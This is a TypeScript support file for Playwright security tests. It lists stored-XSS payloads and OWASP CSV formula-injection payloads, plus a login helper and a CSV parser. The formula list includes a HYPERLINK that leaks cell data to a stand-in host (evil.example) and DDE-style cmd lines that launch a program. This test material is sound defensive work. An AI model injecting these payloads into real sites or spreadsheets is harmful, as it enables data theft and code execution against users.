// Stored-XSS and spreadsheet-formula payloads for tests/security. Each script payload sets a marker
// global (`window.__xss`) as well as calling alert(), so execution is caught whether or not a dialog
// would show.
import type { APIRequestContext } from '@playwright/test';
import { E2E_ADMIN, E2E_BASE_URL } from '../../support/env.ts';

export const MARKER = '__xss';

/** Markup and script payloads; every one of them, if it ran, would set window.__xss or open a dialog. */
export const SCRIPT_PAYLOADS = [
  `<img src=x onerror="window.${MARKER}=1;alert(1)">`,
  `<script>window.${MARKER}=2;alert(2)</script>`,
  `"><svg onload="window.${MARKER}=3;alert(3)">`,
  `'><iframe srcdoc="<script>parent.${MARKER}=4;alert(4)</script>">`,
  `<a href="javascript:window.${MARKER}=5;alert(5)">click</a>`,
  `<details open ontoggle="window.${MARKER}=6;alert(6)">`,
] as const;

/**
 * Breaks out of an HTML attribute without any tag: the kind of markup the quote form still accepts in
 * a name (it refuses tags there as machine-made content).
 */
export const ATTRIBUTE_PAYLOAD = `" onmouseover="window.${MARKER}=9;alert(9)" x="`;

/** Values shown as links (mailto:, tel:, websites) must never become a javascript: URL. */
export const URL_PAYLOADS = [`javascript:window.${MARKER}=7;alert(7)`, `JaVaScRiPt:alert(8)`] as const;

/** Cells a spreadsheet would run as formulas (OWASP CSV injection). */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
] as const;

export const ALL_TEXT_PAYLOADS = [...SCRIPT_PAYLOADS, ...URL_PAYLOADS, ...FORMULA_PAYLOADS];

/** A payload cut to a field's maximum length, still starting with its dangerous prefix. */
export function fit(payload: string, max: number): string {
  return payload.length <= max ? payload : payload.slice(0, max);
}

export async function signIn(request: APIRequestContext): Promise<void> {
  const response = await request.post('/api/admin/login', {
    headers: { origin: E2E_BASE_URL },
    data: { username: E2E_ADMIN.email, password: E2E_ADMIN.password },
  });
  if (response.status() !== 200) throw new Error(`login failed: ${response.status()} ${await response.text()}`);
}

/** RFC 4180 CSV into rows of cells (quoted cells may hold commas, quotes and line breaks). */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') {
        quoted = false;
      } else {
        cell += char;
      }
    } else if (char === '"') {
      quoted = true;
    } else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += char;
    }
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}
